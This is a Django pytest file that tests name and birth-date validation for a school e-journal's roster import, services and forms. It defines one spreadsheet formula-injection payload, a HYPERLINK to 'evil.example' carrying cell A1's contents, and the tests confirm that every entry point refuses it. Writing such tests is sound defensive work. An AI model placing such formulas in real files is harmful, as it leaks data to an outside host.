"""One set of rules for a person's name and birth date, and the same verdict everywhere:
the roster import, the curator's forms and the services."""

from __future__ import annotations

import datetime as dt
import unicodedata

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse

from ejournal.core.testing.factories import SchoolClassFactory
from ejournal.schools.models import Student, Teacher
from ejournal.schools.people import (
    person_key,
    validate_birth_date,
    validate_person_name,
)
from ejournal.schools.roster.services import roster_check
from ejournal.schools.roster.testing import born_aged, dmy, roster_csv
from ejournal.schools.services import student_create, teacher_create

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Николаев")'
TODAY = dt.date(2026, 11, 26)


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("Николаев", "Николаев"),
        ("  Мамин-Сибиряк ", "Мамин-Сибиряк"),
        ("Д'Артаньян", "Д'Артаньян"),
        ("О’Коннор", "О’Коннор"),
        ("Мария  Луиза", "Мария Луиза"),
        ("Smith", "Smith"),
        (unicodedata.normalize("NFD", "Йорик Соловьёв"), "Йорик Соловьёв"),
    ],
)
def test_a_name_is_kept_tidied_and_in_nfc(typed, kept):
    assert validate_person_name(typed, "Имя") == kept


@pytest.mark.parametrize(
    ("typed", "message"),
    [
        ("", "Не указано поле «Имя»."),
        (FORMULA, "— допустимы только буквы, пробел, дефис и апостроф."),
        ("+79161234567", "— допустимы только буквы, пробел, дефис и апостроф."),
        ("@Иван", "— допустимы только буквы, пробел, дефис и апостроф."),
        ("Иван2", "— допустимы только буквы, пробел, дефис и апостроф."),
        ("-Иван", "— должно начинаться с буквы."),
        ("'Иван", "— должно начинаться с буквы."),
        ("--", "— нет ни одной буквы."),
        ("И" * 101, "«Имя» длиннее 100 символов."),
    ],
)
def test_a_name_that_is_not_a_name_is_refused_with_the_reason(typed, message):
    with pytest.raises(ValidationError) as refused:
        validate_person_name(typed, "Имя")
    assert message in refused.value.messages[0]


def test_an_optional_name_may_be_empty():
    assert validate_person_name("  ", "Отчество", required=False) == ""


@pytest.mark.parametrize(
    ("birth_date", "ok"),
    [
        (dt.date(2021, 11, 26), True),  # five today
        (dt.date(2021, 11, 27), False),  # five tomorrow
        (dt.date(2003, 11, 27), True),  # 22, 23 tomorrow
        (dt.date(2003, 11, 26), False),  # 23 today
        (dt.date(2030, 1, 1), False),
    ],
)
def test_a_birth_date_is_a_pupils_from_5_to_22_years_old(birth_date, ok):
    if ok:
        assert validate_birth_date(birth_date, TODAY) == birth_date
    else:
        with pytest.raises(ValidationError, match="возраст должен быть от 5 до 22 лет"):
            validate_birth_date(birth_date, TODAY)


def test_the_person_key_ignores_case_with_casefold_and_the_unicode_form():
    born = dt.date(2013, 3, 14)
    assert person_key("Штраус", "Мария", "", born) == person_key("ШТРАУС", "мария", "", born)
    assert person_key("Strauß", "Anna", "", born) == person_key("STRAUSS", "ANNA", "", born)
    nfd = unicodedata.normalize("NFD", "Соловьёв")
    assert person_key(nfd, "Йорик", "", born) == person_key("Соловьёв", "Йорик", "", born)
    assert person_key("Соловьёв", "Йорик", "", born) != person_key("Соловьев", "Йорик", "", born)


# The same verdict wherever the name is typed


@pytest.mark.django_db
def test_a_formula_for_a_name_is_refused_by_the_roster_the_services_and_the_forms(
    school, curator, curator_client
):
    school_class = SchoolClassFactory(school=school, grade=6, letter="А")
    row = ("6А", FORMULA, "Василий", "", dmy(born_aged(12)), "")
    check = roster_check(school=school, filename="list.csv", content=roster_csv([row]))
    assert "допустимы только буквы" in check.errors[0].message

    with pytest.raises(ValidationError) as refused:
        student_create(
            school=school,
            school_class=school_class,
            last_name=FORMULA,
            first_name="Василий",
            birth_date=born_aged(12),
            actor=curator,
        )
    assert "допустимы только буквы" in refused.value.message_dict["last_name"][0]
    with pytest.raises(ValidationError) as refused:
        teacher_create(school=school, last_name="Иванова", first_name=FORMULA, actor=curator)
    assert "допустимы только буквы" in refused.value.message_dict["first_name"][0]

    page = curator_client.post(
        reverse("schools:teacher_create"), {"last_name": FORMULA, "first_name": "Мария"}
    )
    assert page.status_code == 200
    assert "допустимы только буквы" in page.context["form"].errors["last_name"][0]
    assert not Student.objects.exists()
    assert not Teacher.objects.exists()


@pytest.mark.django_db
def test_a_name_typed_in_nfd_is_stored_in_nfc_and_is_the_same_person(school, curator):
    school_class = SchoolClassFactory(school=school, grade=6, letter="А")
    nfd = unicodedata.normalize("NFD", "Соловьёв")
    student = student_create(
        school=school,
        school_class=school_class,
        last_name=nfd,
        first_name=unicodedata.normalize("NFD", "Йорик"),
        birth_date=born_aged(12),
        actor=curator,
    )
    assert (student.last_name, student.first_name) == ("Соловьёв", "Йорик")

    with pytest.raises(ValidationError, match="уже есть в классе 6А"):
        student_create(
            school=school,
            school_class=school_class,
            last_name="СОЛОВЬЁВ",
            first_name="Йорик",
            birth_date=born_aged(12),
            actor=curator,
        )
